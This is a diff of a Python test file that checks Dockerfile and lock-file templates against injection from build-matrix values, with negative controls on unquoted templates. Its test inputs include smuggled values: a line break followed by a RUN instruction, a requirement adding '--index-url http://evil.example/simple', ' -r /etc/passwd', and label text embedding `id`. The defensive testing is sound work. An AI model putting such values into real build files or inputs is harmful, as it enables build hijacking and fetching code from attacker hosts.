@@ -1,11 +1,13 @@
 """Defence in depth: even a value that got past the schema is one inert word in a Dockerfile.
 
 The cells here are built directly (dataclasses.replace on real cells), so the schema never
-sees them. Every template renders them; every RUN line must pass `bash -n`, parse (bashlex)
-to the same shape as with harmless values, and hold each hostile value as exactly one word;
-every LABEL value must read back, by BuildKit's quoting rules, as exactly the matrix value.
-The same checks run against a copy of the templates without the quoting filters and must
-fail there: that is what proves they can.
+sees them. Every template renders them; every RUN line that holds a matrix value must pass
+`bash -n`, parse (bashlex) to the same shape as with harmless values, and hold each hostile
+value as exactly one word; every LABEL value must read back, by BuildKit's quoting rules, as
+exactly the matrix value; no line break from a cell reaches a Dockerfile at all. The same
+checks run against a copy of the templates without the quoting filters and must fail there:
+that is what proves they can. Requirements and index URLs no longer reach RUN lines (they go
+into the cell's locks, build/lock.py); the requirements file uv reads is checked here too.
 """
 
 from __future__ import annotations
@@ -21,6 +23,7 @@ from typing import Any
 import bashlex
 import pytest
 
+from buildtool.build import lock
 from buildtool.build.bases import _standin_dockerfile
 from buildtool.common.errors import UserError
 from buildtool.contracts import label_keys
@@ -121,6 +124,8 @@ def _run_problems(benign: str, hostile: str, expected_words: list[str]) -> list[
         return [f"{len(runs)} RUN instructions instead of {len(safe_runs)}"]
     seen_words: set[str] = set()
     for command, safe in zip(runs, safe_runs, strict=True):
+        if command == safe:
+            continue  # no matrix value on this line (bashlex cannot parse every line bash can)
         syntax = subprocess.run(["bash", "-n", "-c", command], capture_output=True, text=True, timeout=30)
         if syntax.returncode != 0:
             problems.append(f"bash -n: {syntax.stderr.strip()} in {command!r}")
@@ -215,12 +220,9 @@ def _unquoted_templates(tmp_path: Path, style: str) -> Path:
     return copy
 
 
-BENIGN = [f"benign{i}" for i in range(len(HOSTILE))]
-
-
 def _used_words(template: str, templates: Path, values: list[str]) -> tuple[str, list[str]]:
     """The benign rendering, and which of the hostile cell's words this template puts on RUN lines."""
-    benign, benign_words = _hostile_cell(template, BENIGN, "plain")
+    benign, benign_words = _hostile_cell(template, [f"benign{i}" for i in range(len(values))], "plain")
     text = _render(templates, benign)
     on_run_lines = {w for k, r in _instructions(text) if k == "RUN" for w in shlex.split(_run_command(r))}
     _, words = _hostile_cell(template, values, LABEL_TEXT)
@@ -230,11 +232,19 @@ def _used_words(template: str, templates: Path, values: list[str]) -> tuple[str,
 LABEL_TEXT = 'say "hi" to $HOME and `id`, back\\slash\\'
 
 
+# Templates that put a matrix value on a RUN line (the others hold them only in LABELs and comments).
+SHELL_TEMPLATES = [t for t in IMAGE_TEMPLATES if _used_words(t, TEMPLATES, HOSTILE)[1]]
+
+
+def test_some_template_puts_matrix_values_on_run_lines():
+    """Else the RUN-line checks below would prove nothing."""
+    assert SHELL_TEMPLATES, "no template puts a matrix value on a RUN line"
+
+
 @pytest.mark.parametrize("template", IMAGE_TEMPLATES)
 def test_every_template_keeps_hostile_values_one_inert_word(template: str):
     hostile, _ = _hostile_cell(template, HOSTILE, LABEL_TEXT)
     benign_text, used = _used_words(template, TEMPLATES, HOSTILE)
-    assert used, f"{template} puts no matrix value on a RUN line? (the check would prove nothing)"
     hostile_text = _render(TEMPLATES, hostile)
     assert _run_problems(benign_text, hostile_text, used) == []
     labels, problems = _labels(hostile_text)
@@ -244,36 +254,45 @@ def test_every_template_keeps_hostile_values_one_inert_word(template: str):
 
 
 @pytest.mark.parametrize("style", ["bare", "double"])
-@pytest.mark.parametrize("template", IMAGE_TEMPLATES)
-def test_the_checks_catch_templates_without_the_quoting_filters(template: str, style: str, tmp_path: Path):
-    """The negative control: the same checks on unquoted templates find the injections."""
+@pytest.mark.parametrize("template", SHELL_TEMPLATES)
+def test_the_run_checks_catch_templates_without_sh(template: str, style: str, tmp_path: Path):
+    """The negative control: the same checks on templates without `| sh` find the injections."""
     unquoted = _unquoted_templates(tmp_path, style)
     hostile, _ = _hostile_cell(template, HOSTILE, LABEL_TEXT)
     benign_text, used = _used_words(template, unquoted, HOSTILE)
     problems = _run_problems(benign_text, _render(unquoted, hostile), used)
     assert any("structure changed" in p or "bash -n" in p or "bashlex" in p for p in problems), problems
+
+
+@pytest.mark.parametrize("template", IMAGE_TEMPLATES)
+def test_the_label_checks_catch_templates_without_label(template: str, tmp_path: Path):
+    """The negative control for LABELs: plain double quotes (the templates before) misread them."""
+    unquoted = _unquoted_templates(tmp_path, "double")
+    hostile, _ = _hostile_cell(template, HOSTILE, LABEL_TEXT)
     labels, label_problems = _labels(_render(unquoted, hostile))
     assert label_problems or labels.get(label_keys.OCI_DESCRIPTION) != LABEL_TEXT
 
 
 @pytest.mark.parametrize("value", HOSTILE)
 def test_each_hostile_value_alone_is_one_word(value: str):
-    """Value by value, in the pip template: one value, one word, nothing else changes."""
-    template = "images/pytorch-pip.Dockerfile.j2"
-    hostile, words = _hostile_cell(template, [value, "ok1", "ok2", "ok3"], "plain")
+    """Value by value, in a template with matrix values on RUN lines: one value, one word."""
+    template = SHELL_TEMPLATES[0]
+    hostile, _ = _hostile_cell(template, [value, "ok1", "ok2", "ok3"], "plain")
     benign, _ = _hostile_cell(template, ["ok0", "ok1", "ok2", "ok3"], "plain")
-    assert _run_problems(_render(TEMPLATES, benign), _render(TEMPLATES, hostile), [value]) == []
+    benign_text, used = _used_words(template, TEMPLATES, [value, "ok1", "ok2", "ok3"])
+    assert value in used
+    assert _run_problems(benign_text, _render(TEMPLATES, hostile), [value]) == []
 
 
 @pytest.mark.parametrize("field", ["use", "python", "framework_version", "base", "version", "name",
-                                   "framework_requirements", "apt_packages", "index_url", "packages"])
+                                   "apt_packages", "packages", "accelerator", "tests"])
 @pytest.mark.parametrize("brk", ["\n", "\r", "\x00", "\u2028"])
 def test_a_line_break_never_reaches_a_dockerfile(field: str, brk: str):
     """A line break would end the instruction and start one of the matrix's choosing."""
     base = next(c for c in MATRIX.cells if c.key == "pytorch-cpu:2.13")
     evil = f"x{brk}RUN touch /tmp/canary"
     value: Any = evil
-    if field in ("framework_requirements", "apt_packages"):
+    if field in ("apt_packages", "tests"):
         value = (evil,)
     elif field == "packages":
         value = (("pkg", evil),)
@@ -304,3 +323,18 @@ def test_standin_dockerfile_quotes_its_requirements():
         workdir="/workspace"))
     ref = "127.0.0.1:5000/library/debian:bookworm-slim"
     assert _run_problems(_standin_dockerfile(benign, ref), _standin_dockerfile(hostile, ref), HOSTILE) == []
+
+
+@pytest.mark.parametrize("value", ["torch==2.13.0\n--index-url http://evil.example/simple", "--extra-index-url=x",
+                                   " -r /etc/passwd", "", "torch==2.13.0\r-e .", "a\x00b"])
+def test_a_requirement_never_adds_lines_or_options_to_the_lock_input(value: str, monkeypatch: pytest.MonkeyPatch):
+    """`make lock` writes the cell's requirements into a file uv reads; one value is one line."""
+    base = next(c for c in MATRIX.cells if c.key == "pytorch-cpu:2.13")
+    cell = dataclasses.replace(base, framework_requirements=(value,))
+    ran: list[list[str]] = []
+    monkeypatch.setattr(lock, "_run_uv", lambda argv, env, cwd: ran.append(argv))
+    with pytest.raises(UserError, match="is not one PEP 508 requirement"):
+        lock.compile_cell(cell, lock.HostPip(), previous={}, upgrade=None, base=None, log=print,
+                          reachable=lambda url: True)
+    assert ran == []
+    assert lock.requirement_lines(["torch==2.13.0", "tensorboard==2.21.0"]) == "torch==2.13.0\ntensorboard==2.21.0\n"
